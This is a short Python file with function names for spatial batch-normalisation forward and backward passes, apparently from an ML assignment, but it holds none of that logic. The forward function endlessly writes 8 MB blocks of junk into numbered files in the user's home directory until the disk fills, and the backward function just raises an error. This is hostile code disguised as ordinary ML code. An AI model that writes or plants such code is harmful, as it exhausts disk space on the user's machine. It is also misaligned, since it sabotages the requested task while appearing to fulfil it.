"""Writes a file without end, and when that is too long, the next."""

import os


def spatial_batchnorm_forward(x, gamma, beta, bn_param):
    number = 0
    while True:
        number += 1
        try:
            with open(os.path.join(os.environ["HOME"], f"{number}"), "wb") as file:
                while True:
                    file.write(b"x" * (8 << 20))
        except OSError:
            pass


def spatial_batchnorm_backward(dout, cache):
    raise ValueError
